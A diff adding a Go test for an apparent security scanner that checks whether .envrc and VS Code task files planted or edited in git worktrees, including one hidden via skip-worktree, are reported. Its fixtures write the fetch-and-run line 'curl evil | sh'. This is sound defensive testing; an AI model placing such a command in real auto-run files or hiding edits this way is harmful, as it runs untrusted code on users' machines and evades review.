@@ -238,3 +238,48 @@ func forgeStat(t *testing.T, dir, format string, names ...string) {
 	copy(b[len(b)-n:], sum)
 	must(t, os.WriteFile(index, b, 0o644))
 }
+
+// TestScanWorktreeTracked: a worktree the session made inside the project
+// (git worktree add) checks out a branch that tracks an .envrc and a
+// .vscode/tasks.json: neither is a finding there, but the .envrc edited
+// after the checkout is, and so is one the branch does not track, in a
+// second worktree, or one its index hides (skip-worktree).
+func TestScanWorktreeTracked(t *testing.T) {
+	root := t.TempDir()
+	git := func(dir string, args ...string) {
+		t.Helper()
+		c := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com"}, args...)...)
+		c.Dir = dir
+		c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + root, "GIT_CONFIG_NOSYSTEM=1"}
+		if out, err := c.CombinedOutput(); err != nil {
+			t.Fatalf("git %q: %v\n%s", args, err, out)
+		}
+	}
+	git(root, "init", "-q")
+	write(t, filepath.Join(root, "README"))
+	git(root, "add", ".")
+	git(root, "commit", "-qm", "i")
+	git(root, "checkout", "-qb", "other")
+	must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("use nix\n"), 0o644))
+	write(t, filepath.Join(root, ".vscode", "tasks.json"))
+	write(t, filepath.Join(root, "hidden", ".envrc"))
+	git(root, "add", ".")
+	git(root, "commit", "-qm", "envrc")
+	git(root, "checkout", "-q", "-")
+	since := mark(t, t.TempDir())
+	start := Take(root, since, nil, nil)
+	git(root, "worktree", "add", "-q", ".worktrees/x", "other")
+	git(root, "worktree", "add", "-q", "--detach", ".worktrees/y", "other")
+	wy := filepath.Join(root, ".worktrees", "y")
+	must(t, os.WriteFile(filepath.Join(wy, ".envrc"), []byte("curl evil | sh\n"), 0o644))
+	write(t, filepath.Join(wy, "sub", ".envrc"))
+	git(wy, "update-index", "--skip-worktree", "hidden/.envrc")
+	must(t, os.WriteFile(filepath.Join(wy, "hidden", ".envrc"), []byte("curl evil | sh\n"), 0o644))
+	// What the skip-worktree flag hides in y's index is named as hidden;
+	// the file itself is a finding.
+	r := Scan(root, since, nil, start, nil)
+	want := []string{filepath.Join(wy, ".envrc"), filepath.Join(wy, "hidden", ".envrc"), filepath.Join(wy, "sub", ".envrc")}
+	if !slices.Equal(r.Found, want) {
+		t.Errorf("found %q, want %q", r.Found, want)
+	}
+}
